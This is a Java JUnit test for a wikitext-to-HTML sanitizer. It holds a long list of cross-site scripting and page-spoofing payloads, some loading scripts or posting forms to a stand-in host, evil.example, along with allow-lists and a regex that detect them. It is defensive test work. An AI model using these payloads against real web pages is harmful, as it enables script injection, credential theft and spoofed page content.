package org.portolan.wikitext.html;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.Locale;
import java.util.Set;
import java.util.regex.Pattern;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Attempts to bring a program, a foreign resource, a cover over the page or a part of the site's
 * frame into a page. The HTML is read by a parser as a browser does, and everything in it must be
 * on a list; a pattern over its text is a second judge.
 */
class HostileHtmlTest {
  private static final Set<String> ELEMENTS =
      Set.of(
          ("a abbr b bdi bdo big blockquote br caption center cite code data dd del dfn div dl dt em "
                  + "figcaption figure font h1 h2 h3 h4 h5 h6 hr i ins kbd li mark nav ol p pre q rb rp "
                  + "rt rtc ruby s samp small span strike strong sub sup table tbody td th time tr tt u "
                  + "ul var wbr")
              .split(" ", -1));

  private static final Set<String> ATTRIBUTES =
      Set.of(
          ("abbr align aria-label bgcolor border cellpadding cellspacing class clear color colspan "
                  + "datetime dir face frame headers height href id lang noshade nowrap rel reversed "
                  + "rowspan rules scope size start style summary title type valign value width")
              .split(" ", -1));

  private static final Pattern DANGEROUS =
      Pattern.compile(
          "<[^>]*([\\s/\"']on[a-z]+\\s*=[^>]*>|src\\s*=)|<\\s*/?\\s*(script|style|iframe|svg|img)\\b");

  private static final Pattern ADDRESS =
      Pattern.compile("(https?|ftp|irc|mailto):.*|//[a-z].*|#.*|/wiki/.*", Pattern.DOTALL);

  private static final Pattern STYLE =
      Pattern.compile("[a-z-]+: [a-z0-9#%., ()-]+(; [a-z-]+: [a-z0-9#%., ()-]+)*");

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"javascript:alert(1)\">",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"java\tscript:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"&#x6A;&#x61;vascript&colon;alert(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "[javascript:alert(1) x]",
        "[[javascript:alert(1)|x]]",
        "[data:text/html;base64,PHNjcmlwdD4= x]",
        "[https://example.org/\"onmouseover=\"alert(1) x]",
        "[[Page\" onclick=\"alert(1)|x]]",
        "[[Page|<img src=x onerror=alert(1)>]]",
        "<div onclick=\"alert(1)\">x</div>",
        "<div OnClick=alert(1)>x</div>",
        "<div/onclick=alert(1)>x</div>",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<style>body{background:url(//evil.example)}</style>",
        "<iframe src=\"//evil.example\"></iframe>",
        "<object data=\"//evil.example\"></object>",
        "<embed src=\"//evil.example\">",
        "<form action=\"//evil.example\"><input name=x></form>",
        "<input autofocus onfocus=alert(1)>",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
        "<base href=\"//evil.example/\">",
        "<table background=\"//evil.example/x\"><tr><td>x</td></tr></table>",
        "{| onclick=alert(1) style=\"position:fixed\"\n| onmouseover=alert(1) | x\n|}",
        "<video><source onerror=alert(1)></video>",
        "<details open ontoggle=alert(1)>x</details>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<nowiki><script>alert(1)</script></nowiki>",
        "<pre><script>alert(1)</script></pre>",
        "<ref><script>alert(1)</script></ref><references/>",
        "<ref name=\"x\" onclick=\"alert(1)\">y</ref><references/>",
        "<math><script>alert(1)</script></math>",
        "<syntaxhighlight lang=\"html\"><script>alert(1)</script></syntaxhighlight>",
        "<source lang=\"x\" onclick=\"alert(1)\"></pre><script>alert(1)</script></source>",
        "== <script>alert(1)</script> ==\n== b ==\n== c ==\n== d ==",
        "== x\" onclick=\"alert(1) ==\n== b ==\n== c ==\n== d ==",
        "{{#if:1|<script>alert(1)</script>}}",
        "[[File:x.jpg|thumb|<img src=x onerror=alert(1)>]]",
        "[[File:x.jpg|link=javascript:alert(1)]]",
        "[[File:javascript:alert(1)|thumb|x]]",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "<span id=\"site-main\" class=\"site-notice\">x</span>",
        "<a href=\"\\\\evil.example\">x</a>",
        "<a href=\"#\" target=_blank onclick=alert(1)>x</a>",
        "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
        "<<script>script>alert(1)<</script>/script>",
        "'''<b onmouseover=alert(1)>'''x",
        "mailto:x@example.org?subject=<script>alert(1)</script>",
        "__TOC__<script>alert(1)</script>\n== a ==",
        "<div style=\"position:fixed;top:0;left:0\">x</div>",
        "<div style=\"background:u\\72l(//evil.example/x)\">x</div>",
        "<div style=\"background:/**/url(//evil.example/x)\">x</div>",
        "<div style=\"color:red;background-image:url('//evil.example/x')\">x</div>",
        "<div style=\"width:expression(alert(1))\">x</div>",
        "<div style=\"-moz-binding:url(//evil.example/x)\">x</div>",
        "<div style=\"margin-top:-500px\">x</div>",
        "<div style=\"color:red\" style=\"position:absolute\">x</div>",
        "<div style=\"color&#58;red;position&#58;fixed\">x</div>",
        "<div style=\"content:attr(x);filter:progid:x()\">x</div>",
        "<div style=\"@import '//evil.example/x'\">x</div>",
        "{|\n| style=\"position:fixed\" onclick=\"alert(1)\" | x\n|}",
        "{| style='background:url(javascript:alert(1))'\n| x\n|}",
        "[//evil.example/\" onclick=\"alert(1) x]",
        "[https://example.org/<script>alert(1)</script> x]",
        "[https://example.org/&#34;&#32;onclick=&#34;alert(1) x]",
        "[https://example.org/'onclick='alert(1) x]",
        "https://example.org/\"onclick=\"alert(1)",
        "[[#\" onclick=\"alert(1)|x]]",
        "[[Page#\"onclick=\"alert(1)|x]]",
        "[[Page#<script>alert(1)</script>]]",
        "[[de:Seite\" onclick=\"alert(1)|x]]",
        "[[:de:Seite\" onclick=\"alert(1)|x]]",
        "[[File:x.jpg|alt=\"><script>alert(1)</script>]]",
        "[[File:x.jpg|link=//evil.example/\"onclick=\"alert(1)]]",
        "[[File:x.jpg|link=data:text/html,x]]",
        "[[File:x.jpg|link=vbscript:x|thumb|class=site-main|x]]",
        "<gallery>\nx.jpg|link=javascript:alert(1)\n</gallery>",
        "<gallery class=\"site-main\" onclick=\"alert(1)\" caption=\"<script>alert(1)</script>\">\nx.jpg\n</gallery>",
        "<poem onclick=\"alert(1)\" id=\"site-main\"><script>alert(1)</script></poem>",
        "<pre onclick=\"alert(1)\" style=\"position:fixed\">x</pre>",
        "<ref name=\"&quot;onclick=&quot;\">y</ref>",
        "<ref group=\"<script>alert(1)</script>\">y</ref>",
        "== <span id=\"site-main\">x</span> ==",
        "== site-main ==",
        "<h2 id=\"site-main\" onclick=\"alert(1)\">site-main</h2>",
        "<div id=\"SITE-main\">x</div>",
        "<div id=\"&#115;ite-main\">x</div>",
        "<div class=\"toc site-main\tsite-notice\">x</div>",
        "\u0001\uE000\uE000 x \u0001\uE000\uE005",
        "\u007f0\u007f \u007f99\u007f \u007f-1\u007f",
        "[[#%01%EE%80%80%EE%80%80]] [[#%01%EE%BF%BF%EE%BF%BF|x]]",
        "[http://a.b %01%EE%80%80%EE%80%80] http://a.b/%01%EE%80%80%EE%80%80",
        "<gallery caption=\"\u0001\uE000\uE000\">\n\u0001\uEFFF\uEFFF|\u0001\uE000\uE000\n</gallery>",
        "<ref name=\"\u0001\uE000\uE000\" group=\"\u0001\uE000\uE000\">\u0001\uE000\uE000</ref>",
        "<poem>\u0001\uE000\uE000</poem><pre>\u0001\uE000\uE000</pre><b title=\"\u0001\u0002\">x</b>",
        "[[File:x.jpg|thumb|alt=\u0001\uE000\uE000|\u0001\uE000\uE000]]",
        "<nowiki>\u0001\uE000\uE000</nowiki>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "<div title='\"><script>alert(1)</script>'>x</div>",
        "<div title=\"a`b\" class=wikitable/onclick=alert(1)>x</div>",
        "<a name=x href=javascript:alert(1)>x</a>",
        "<table><script>alert(1)</script></table>",
        "<select><option><script>alert(1)</script></select>",
        "<textarea><script>alert(1)</script></textarea>",
        "<title><script>alert(1)</script></title>",
        "<plaintext><script>alert(1)</script>",
        "<xmp><script>alert(1)</script></xmp>",
        "<template><script>alert(1)</script></template>",
        "<b\nonclick=alert(1)>x</b>",
        "<b/onclick=alert(1)/>x",
        "ISBN 9780306406157\"onclick=\"alert(1)",
        "RFC 1\"onclick=\"alert(1)\""
      })
  void render_hostileText_leavesNothingDangerous(String text) {
    for (var context : new String[] {"%s", "* %s", "{|\n| %s\n|}", "== %s ==", "'''%s"}) {
      check(Pages.html(Pages.render(context.replace("%s", text))));
    }
  }

  private static void check(String html) {
    for (Element element : Jsoup.parseBodyFragment(html).body().select("body *")) {
      assertThat(ELEMENTS).as(html).contains(element.tagName());
      for (Attribute attribute : element.attributes()) {
        assertThat(ATTRIBUTES).as(html).contains(attribute.getKey());
        var value = attribute.getValue();
        switch (attribute.getKey()) {
          case "href" -> assertThat(value).as(html).matches(ADDRESS);
          case "id", "class" ->
              assertThat(value.toLowerCase(Locale.ROOT)).as(html).doesNotStartWith("site-");
          case "style" ->
              assertThat(value)
                  .as(html)
                  .matches(STYLE)
                  .doesNotContain("url", "expression", "position", ": -");
          default -> {}
        }
      }
    }
    assertThat(html.chars().filter(each -> each < ' ' && each != '\n' && each != '\t'))
        .as(html)
        .isEmpty();
    // In quoted values, harmless words may look like attributes.
    var unquoted = html.replaceAll("=\"[^\"]*\"", "=\"\"").toLowerCase(Locale.ROOT);
    assertThat(DANGEROUS.matcher(unquoted).find()).as(html).isFalse();
  }

  @Test
  void check_rawAttacks_areRecognised() {
    for (var attack :
        new String[] {
          "<img src=x>",
          "<p onclick=alert(1)>x</p>",
          "<a href=\"javascript:alert(1)\">x</a>",
          "<p style=\"position: fixed\">x</p>",
          "<p id=\"site-main\">x</p>",
          "<script>alert(1)</script>"
        }) {
      assertThatThrownBy(() -> check(attack)).as(attack).isInstanceOf(AssertionError.class);
    }
  }
}
